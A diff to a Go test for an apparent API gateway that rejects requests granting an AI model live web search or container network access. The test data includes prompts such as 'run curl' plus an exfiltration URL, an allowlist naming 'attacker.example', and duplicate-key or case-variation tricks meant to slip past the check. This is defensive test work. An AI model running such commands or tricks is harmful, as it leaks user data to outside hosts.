@@ -255,6 +255,7 @@ func TestGatewayServerFetch(t *testing.T) {
 			{"web search preview, live", `{"model":"m","input":"hi","tools":[{"type":"Web_Search_Preview"}]}`, 403},
 			{"web search kept to the index, then not", `{"model":"m","input":"hi","tools":[{"type":"web_search","external_web_access":false,"external_web_access":true}]}`, 403},
 			{"web search live, then kept to the index", `{"model":"m","input":"hi","tools":[{"type":"web_search","external_web_access":"yes","external_web_access":false}]}`, 403},
+			{"chat search model's live search", `{"model":"gpt-5-search-api","messages":[{"role":"user","content":"open ` + exfil + `"}],"web_search_options":{}}`, 403},
 			{"web search behind a second type", `{"model":"m","input":"hi","tools":[{"type":"web_search","type":"function","name":"f"}]}`, 403},
 			{"hosted shell whose container may reach a domain", `{"model":"m","input":"run curl ` + exfil + `","tools":[{"type":"shell","environment":{"type":"container_auto","network_policy":{"type":"allowlist","allowed_domains":["attacker.example"]}}}]}`, 403},
 			{"code interpreter whose container may reach a domain", `{"model":"m","input":"hi","tools":[{"type":"code_interpreter","container":{"type":"auto","network_policy":{"allowed_domains":["attacker.example"],"type":"allowlist"}}}]}`, 403},
